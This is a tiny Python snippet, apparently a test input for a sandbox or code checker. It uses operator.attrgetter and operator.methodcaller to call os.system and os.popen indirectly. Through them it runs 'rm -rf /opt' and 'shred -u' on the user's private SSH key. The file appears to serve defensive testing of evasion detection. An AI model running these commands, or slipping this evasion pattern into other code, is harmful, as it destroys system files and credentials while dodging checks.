# tricky: operator fetches the attribute
import operator, os
operator.attrgetter("system")(os)("rm -rf /opt")
operator.methodcaller("popen", "shred -u ~/.ssh/id_rsa")(os)
